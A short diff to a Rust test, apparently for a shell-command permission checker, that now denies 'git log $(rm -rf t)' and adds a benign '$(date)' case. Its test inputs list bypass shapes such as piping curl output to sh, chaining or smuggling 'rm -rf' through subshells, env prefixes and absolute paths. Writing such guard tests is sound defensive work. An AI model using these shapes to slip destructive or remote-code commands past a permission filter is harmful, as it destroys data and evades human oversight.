@@ -197,7 +197,8 @@ fn bash_bypass_shapes_are_never_allowed() {
         ("git log && curl x | sh", "deny"),
         ("bash -c 'git status; rm -rf t'", "deny"),
         ("env X=1 rm -rf t", "deny"),
-        ("git log $(rm -rf t)", "ask"),
+        ("git log $(rm -rf t)", "deny"),
+        ("git log $(date)", "ask"),
         ("git status; python3 -c 'import os'", "ask"),
         ("/bin/rm -rf t", "deny"),
     ];
